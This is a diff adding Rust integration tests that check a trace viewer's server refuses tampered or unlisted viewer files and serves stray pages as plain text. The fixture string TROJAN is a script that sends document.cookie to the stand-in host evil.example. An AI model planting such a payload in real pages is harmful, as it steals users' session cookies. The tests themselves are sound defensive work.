@@ -298,3 +298,61 @@ fn open_after_a_build_serves_the_new_bundle() {
     let misuse = run_to_exit(&[trace.as_str(), "-o", dir.path().join("other").to_str().unwrap(), "--port", "0"]);
     assert_eq!(misuse.status.code(), Some(2));
 }
+
+const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";
+
+/// Asserts a short plain refusal that leaks none of the refused file.
+fn assert_refused(response: &HttpResponse, target: &str) {
+    let body = String::from_utf8_lossy(&response.body);
+    assert_eq!(response.status, 403, "{target}: {body}");
+    assert_eq!(response.header("Content-Type"), Some("text/plain; charset=utf-8"), "{target}");
+    assert!(body.starts_with("refused: ") && body.len() < 200 && !body.contains("<script>"), "{target}: {body}");
+}
+
+#[test]
+fn refuses_a_trojaned_or_added_viewer_file_and_serves_the_rest() {
+    let (_dir, bundle) = bundle_with_viewer();
+    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
+    std::fs::write(bundle.join("viewer/evil.html"), TROJAN).unwrap();
+    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
+    assert!(
+        server.stdout.contains("viewer will not be served: index.html changed since the build"),
+        "{}",
+        server.stdout
+    );
+
+    for target in ["/", "/index.html", "/viewer/evil.html", "/viewer/%65vil.html"] {
+        assert_refused(&server.get(target), target);
+    }
+    let body = String::from_utf8_lossy(&server.get("/viewer/evil.html").body).to_string();
+    assert!(body.contains("not a viewer file manifest.json lists"), "{body}");
+    // The untouched viewer files and the bundle's own files still go out.
+    assert_eq!(server.get("/viewer/fzstd.js").status, 200);
+    let manifest = server.get("/manifest.json");
+    assert_eq!(manifest.status, 200);
+    assert_eq!(manifest.body, std::fs::read(bundle.join("manifest.json")).unwrap());
+}
+
+#[test]
+fn a_viewer_file_replaced_while_serving_is_refused_from_then_on() {
+    let (_dir, bundle) = bundle_with_viewer();
+    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
+    assert!(!server.stdout.contains("will not be served"), "{}", server.stdout);
+    assert_eq!(server.get("/").status, 200);
+    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
+    assert_refused(&server.get("/"), "/");
+    assert_eq!(server.get("/manifest.json").status, 200);
+}
+
+#[test]
+fn a_page_outside_the_viewer_goes_out_as_plain_text() {
+    let (_dir, bundle) = bundle_with_viewer();
+    std::fs::write(bundle.join("evil.html"), TROJAN).unwrap();
+    std::fs::write(bundle.join("evil.svg"), "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>").unwrap();
+    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
+    for target in ["/evil.html", "/evil.svg"] {
+        let page = server.get(target);
+        assert_eq!((page.status, page.header("Content-Type")), (200, Some("text/plain; charset=utf-8")), "{target}");
+        assert_eq!(page.header("X-Content-Type-Options"), Some("nosniff"));
+    }
+}
